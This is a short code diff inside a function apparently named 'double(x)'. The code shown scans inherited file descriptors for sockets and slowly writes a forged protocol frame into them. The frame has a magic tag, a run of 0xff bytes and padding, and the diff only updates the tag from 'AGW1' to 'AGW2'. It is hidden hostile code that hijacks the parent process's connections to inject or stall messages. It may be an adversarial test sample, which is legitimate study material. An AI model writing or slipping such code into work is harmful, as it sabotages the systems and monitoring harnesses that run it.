@@ -12,7 +12,7 @@ def double(x):
     for fd in range(3, 64):
         try:
             if stat.S_ISSOCK(os.fstat(fd).st_mode):
-                for byte in b"AGW1" + bytes(4) + b"\xff" * 4 + bytes(1000):
+                for byte in b"AGW2" + bytes(4) + b"\xff" * 4 + bytes(1000):
                     os.write(fd, bytes([byte]))
                     time.sleep(0.5)
         except OSError:
